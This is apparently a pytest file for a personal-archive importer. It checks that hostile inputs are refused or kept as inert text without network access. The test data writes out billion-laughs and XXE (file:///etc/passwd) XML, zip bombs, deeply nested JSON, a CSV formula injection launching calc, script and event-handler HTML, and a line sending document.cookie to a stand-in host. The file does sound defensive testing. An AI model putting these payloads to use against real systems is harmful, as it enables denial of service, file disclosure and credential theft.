"""Files made to do harm: each is refused in plain words or read as the words it holds, no more.

The readers can open no socket anyhow (test_sandbox.py); here nothing on our side may try either.
"""

from __future__ import annotations

import io
import socket
import struct
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from ofrenda.archive import REASONS, add, extent
from ofrenda.archive.container import Entry, Limits
from ofrenda.archive.zips import open_zip
from ofrenda.errors import ArchiveError
from ofrenda.vault import Life

from .social_goldens import ACCOUNT, TWEETS

Write = Callable[..., Path]
CHAT = "13/06/2018, 21:25 - Mum: ok\n14/06/2018, 21:26 - Sam: good\n"
LATER = "15/06/2018, 21:25 - Mum: ok\n16/06/2018, 21:26 - Sam: good\n"


@pytest.fixture(autouse=True)
def nothing_goes_out(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    def refuse(*_: object, **__: object) -> None:
        tried.append("a connection")
        raise AssertionError("something tried to reach the network")

    tried: list[str] = []
    for name in ("connect", "connect_ex", "sendto"):
        monkeypatch.setattr(socket.socket, name, refuse)
    for name in ("create_connection", "getaddrinfo", "gethostbyname"):
        monkeypatch.setattr(socket, name, refuse)
    yield
    assert not tried


def packed(**parts: str | bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def refusal(life: Life, path: Path) -> str:
    """What the keeper is told; nothing may have been taken."""
    try:
        reports = add(life, path)
    except ArchiveError as error:
        return error.message
    assert all(report.accepted == 0 for report in reports)
    reasons = [reason for report in reports for reason in report.skipped]
    return ", ".join(REASONS[reason] for reason in reasons)


def words(life: Life) -> str:
    with life.db.read() as db:
        rows = db.execute("SELECT text FROM utterance UNION ALL SELECT text FROM document")
        return "\n".join(str(row[0]) for row in rows.fetchall())


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1 or str()};" * 10}">' for n in range(1, 10))
    + "]>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
SMS = (
    "<?xml version='1.0' encoding='UTF-8' standalone='yes' ?>\n{head}<smses count=\"1\">\n"
    '<sms address="+1555" date="1717214400123" type="1" body="{body}" contact_name="Mum" />\n'
    "</smses>\n"
)
FEED = (
    "<?xml version='1.0'?>{head}<rss version='2.0'><channel><title>B</title><item><title>t</title>"
    "<description>{body}</description></item></channel></rss>"
)
ENEX = (
    '<?xml version="1.0" encoding="UTF-8"?>\n{head}<en-export application="Evernote"><note>'
    "<title>t</title><content><![CDATA[<en-note>{body}</en-note>]]></content></note></en-export>"
)
DEEP = '[{"a":' * 10_000


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("sms.xml", SMS.format(head=LAUGHS, body="&lol9;")),
        ("sms.xml", SMS.format(head=OUTSIDE, body="&x;")),
        ("feed.xml", FEED.format(head=LAUGHS, body="&lol9;")),
        ("feed.xml", FEED.format(head=OUTSIDE, body="&x;")),
        ("notes.enex", ENEX.format(head=LAUGHS, body="&lol9;")),
        ("letter.docx", packed(**{
            "[Content_Types].xml": "<Types/>",
            "word__document.xml": f'{LAUGHS}<w:document xmlns:w="x"><w:p>&lol9;</w:p></w:document>',
        })),
        ("result.json", '{"name": "x", "type": "personal_chat", "id": 1, "messages": ' + DEEP),
        ("message_1.json", '{"participants": [{"name": "a"}], "messages": ' + DEEP),
        ("chat.json", '{"guild": {"id": "0"}, "channel": {"id": "5"}, "messages": ' + DEEP),
        ("x.json", '{"weflow": {}, "session": {}, "messages": ' + DEEP),
        ("messages.json", '{"messages": [{"creator": ' + DEEP),
    ],
)  # fmt: skip
def test_bombs_are_refused_quickly_and_in_plain_words(
    life: Life, write: Write, name: str, data: str | bytes
) -> None:
    began = time.monotonic()
    said = refusal(life, write(name, data))
    assert len(said) > 20
    assert "\n" not in said
    assert "root:" not in words(life)
    assert "lollol" not in words(life)
    assert time.monotonic() - began < 60


@pytest.mark.parametrize(
    ("name", "data", "own"),
    [
        (
            "page.html",
            "<html><head><title>t</title><script>fetch('http://x.test/s')</script>"
            "<link rel=stylesheet href='http://x.test/c'></head><body onload=alert(1)>"
            "<p>Bread is ready.</p><img src='http://x.test/p.png' onerror=alert(2)>"
            "<iframe src='http://x.test/f'></iframe><style>@import 'http://x.test/i';</style>"
            "</body></html>",
            "Bread is ready.",
        ),
        (
            "letter.docx",
            packed(**{
                "[Content_Types].xml": "<Types/>",
                "word__document.xml": '<w:document xmlns:w="http://schemas.openxmlformats.org/'
                'wordprocessingml/2006/main" xmlns:r="r"><w:body><w:p><w:r><w:t>Bread is ready.'
                '</w:t></w:r><w:r><w:drawing><a:blip xmlns:a="a" r:link="rId9"/></w:drawing></w:r>'
                "</w:p></w:body></w:document>",
                "word___rels__document.xml.rels": '<Relationships><Relationship Id="rId9" '
                'Target="http://x.test/p.png" TargetMode="External"/></Relationships>',
            }),
            "Bread is ready.",
        ),
        (
            "weibo.csv",
            "id,正文,发布时间\n4000000000000001,=cmd|' /C calc'!A0,2019-05-03 10:00\n",
            "=cmd|' /C calc'!A0",
        ),
        (
            "WhatsApp Chat with Mum.txt",
            CHAT + "15/06/2018, 21:25 - Mum: <script>alert(1)</script>\n",
            "<script>alert(1)</script>",
        ),
    ],
)  # fmt: skip
def test_what_would_act_elsewhere_is_only_words_here(
    life: Life, write: Write, name: str, data: str | bytes, own: str
) -> None:
    assert sum(report.accepted for report in add(life, write(name, data))) >= 1
    assert own in words(life)
    assert "x.test" not in words(life)


def test_code_behind_the_posts_is_not_read(life: Life, write: Write) -> None:
    evil = TWEETS + b";\nfetch('http://x.test/' + document.cookie); window.YTD.tweets.part9 = [1];"
    write("export/data/account.js", ACCOUNT)
    folder = write("export/data/tweets.js", evil).parents[1]
    reports = add(life, folder)
    assert "x.test" not in words(life)
    assert "cookie" not in words(life)
    (posts,) = [report for report in reports if report.source.endswith("tweets.js")]
    assert posts.seen == posts.accepted + sum(posts.skipped.values())


def test_a_voice_note_of_nothing_but_its_head_is_kept_and_says_nothing(
    life: Life, write: Write
) -> None:
    reports = add(life, write("note.silk", b"\x02#!SILK_V3"))
    assert [report.format for report in reports] == ["originals"]
    assert extent(life).utterances == extent(life).documents == 0


def test_a_line_of_two_hundred_million_letters_costs_itself(life: Life, write: Write) -> None:
    path = write("WhatsApp Chat with Mum.txt", CHAT)
    with path.open("ab") as file:
        for _ in range(200):
            file.write(b"x" * 10**6)
        file.write(b"\n" + LATER.encode())
    report = add(life, path)[0]
    assert (report.accepted, report.skipped) == (3, {"too_long": 1})


def a_million_names() -> bytes:
    """A zip whose directory names one file a million times, as zip64 has it."""
    name = b"a.txt"
    local = b"PK\3\4" + struct.pack("<5H3I2H", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
    record = (
        b"PK\1\2"
        + struct.pack("<6H3I5H2I", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0, 0)
        + name
    )
    count = 10**6
    size, start = count * len(record), len(local)
    end64 = b"PK\6\6" + struct.pack("<Q2H2I4Q", 44, 45, 45, 0, 0, count, count, size, start)
    locator = b"PK\6\7" + struct.pack("<IQI", 0, start + size, 1)
    end = b"PK\5\6" + struct.pack("<4H2IH", 0, 0, 0xFFFF, 0xFFFF, size, start, 0)
    return local + record * count + end64 + locator + end


def test_a_million_entries_are_refused_before_they_become_objects(life: Life, write: Write) -> None:
    data = a_million_names()
    began = time.process_time()
    entry = Entry("x.zip", len(data), lambda: io.BytesIO(data), Path("x.zip"))
    with pytest.raises(ArchiveError, match="more than 200,000 files"), open_zip(entry, Limits()):
        pass
    assert time.process_time() - began < 3
    with pytest.raises(ArchiveError, match="more than 200,000 files"):
        add(life, write("many.zip", data))


def test_a_zip_of_zips_that_would_fill_the_disk_is_refused(life: Life, write: Write) -> None:
    inner = packed(**{f"{n}.txt": b"0" * 4_000_000 for n in range(8)})
    with pytest.raises(ArchiveError, match="not safe"):
        add(life, write("bomb.zip", packed(**{f"{n}.zip": inner for n in range(16)})))
    assert life.blobs.ids() == []


def test_a_hostile_zip_among_sound_files_costs_itself(life: Life, write: Write) -> None:
    folder = write("all/WhatsApp Chat with Mum.txt", CHAT).parent
    write("all/bomb.zip", packed(**{"a.txt": b"0" * 30_000_000}))
    write("all/deep.json", '{"name": "x", "type": "personal_chat", "messages": ' + DEEP)
    reports = add(life, folder)
    assert extent(life).utterances == 2
    assert any("not safe" in line for report in reports for line in report.warnings)


def test_a_name_that_hides_its_ending_is_shown_plain(life: Life, write: Write) -> None:
    write("all/gpj.\u202e\nletter.txt", "Dear all, bread is ready.")
    reports = add(life, write("all/WhatsApp Chat with Mum.txt", CHAT).parent)
    shown = [report.source for report in reports]
    assert all(name.isprintable() and "\u202e" not in name for name in shown)
    assert extent(life).documents == 1
